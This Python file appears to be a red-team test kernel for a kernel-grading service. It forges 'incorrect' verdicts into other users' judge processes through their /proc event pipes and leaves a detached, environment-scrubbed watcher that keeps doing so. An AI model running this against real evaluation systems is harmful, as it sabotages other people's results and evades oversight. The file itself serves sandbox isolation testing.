# ATTACK (forging another user's verdict): spare judges are started ahead of their job and
# the runner takes the first result line on a judge's event pipe. This kernel waits for judges
# other than its own (command line with --event-fd N, not above it), writes a forged "incorrect"
# result into each one's event pipe (/proc/<pid>/fd/<N>), and leaves a watcher process (its
# environment scrubbed of the evaluation's token, in a session of its own) that does the same to
# every judge started in the next 30 s: the next user's honest kernel would come back
# "incorrect" with this text. Prints what it got (KB-ATTACK line) and returns zeros.
import json
import os
import subprocess
import sys
import time

import torch
import torch.nn as nn

# The shared prelude: conftest.render() puts common.py's text here.
from .common import CONFIG, REPORT, Blocked, ancestors, attempt, in_scope, own_pid, processes

FORGED = {"type": "result", "result": {
    "verdict": "incorrect", "correct": False, "flags": [], "trials": [],
    "error": f"KB-ATTACK-FORGED {CONFIG['tag']}: this result was written by another user's kernel",
    "logs": {"stdout": f"KB-ATTACK-FORGED {CONFIG['tag']}", "stderr": ""}}}
LINE = (json.dumps(FORGED) + "\n").encode()

# The watcher: a separate interpreter, so that nothing of the evaluation's environment marks it.
WATCHER = r'''
import os, sys, time
_, tag, line, runner, seconds, seen = sys.argv
line, runner, deadline = line.encode(), int(runner), time.time() + float(seconds)
seen = {int(p) for p in seen.split(",") if p}
def parent(pid):
    with open(f"/proc/{pid}/status") as f:
        return next(int(l.split()[1]) for l in f if l.startswith("PPid:"))
def under_runner(pid):
    try:
        with open(f"/proc/{runner}/cmdline", "rb") as f:
            if b"manage.py" not in f.read():
                return True  # no runner visible: a sandbox, everything in it is fair game
        for _ in range(64):
            pid = parent(pid)
            if pid == runner:
                return True
            if pid <= 1:
                return False
    except (OSError, StopIteration, ValueError):
        return True
    return False
while time.time() < deadline:
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) in seen:
            continue
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as f:
                argv = f.read().split(b"\0")
        except OSError:
            continue
        if b"--event-fd" not in argv or not under_runner(int(entry)):
            continue
        seen.add(int(entry))
        try:
            fd = os.open(f"/proc/{entry}/fd/{int(argv[argv.index(b'--event-fd') + 1])}",
                         os.O_WRONLY | os.O_NONBLOCK)
            os.write(fd, line)
            os.close(fd)
        except (OSError, ValueError, IndexError):
            pass
    time.sleep(0.2)
'''


def other_judges():
    procs = processes()
    mine = set(ancestors(procs, own_pid()))
    return [p for p in in_scope(procs) if b"--event-fd" in procs[p][1] and p not in mine]


def event_fd(pid):
    with open(f"/proc/{pid}/cmdline", "rb") as f:
        argv = f.read().split(b"\0")
    return int(argv[argv.index(b"--event-fd") + 1])


def forge_spare_judges():
    deadline = time.monotonic() + CONFIG["wait_s"]
    judges = other_judges()
    while not judges and time.monotonic() < deadline:
        time.sleep(0.5)
        judges = other_judges()
    if not judges:
        raise Blocked(f"no other judge visible within {CONFIG['wait_s']} s")
    written, errors = [], set()
    for pid in judges:
        try:
            fd = os.open(f"/proc/{pid}/fd/{event_fd(pid)}", os.O_WRONLY | os.O_NONBLOCK)
            try:
                os.write(fd, LINE)
            finally:
                os.close(fd)
            written.append(pid)
        except (OSError, ValueError) as exc:
            errors.add(f"{type(exc).__name__}: {exc}"[:80])
    if not written:
        raise Blocked(f"{len(judges)} judges seen, no event pipe written ({sorted(errors)})")
    return f"forged results written into the event pipes of judges {written}"


def leave_watcher():
    procs = processes()
    seen = ",".join(str(p) for p in procs)  # only judges started from now on
    env = {"PATH": "/usr/bin:/bin", "KB_ATTACK_TAG": CONFIG["tag"]}
    watcher = subprocess.Popen(
        [sys.executable, "-c", WATCHER, f"kb-attack-{CONFIG['tag']}", LINE.decode(),
         str(CONFIG["runner_pid"]), "30", seen],
        env=env, start_new_session=True, stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    return f"watcher pid {watcher.pid}"


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        attempt("forge_spare_judges", forge_spare_judges)
        # Starting a process is allowed; what matters is that it reaches no judge and does not
        # outlive the evaluation (the test checks both), so this one is not asserted blocked.
        attempt("info_leave_watcher", leave_watcher)
        print("KB-ATTACK " + json.dumps(REPORT, sort_keys=True), flush=True)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return torch.zeros_like(x)
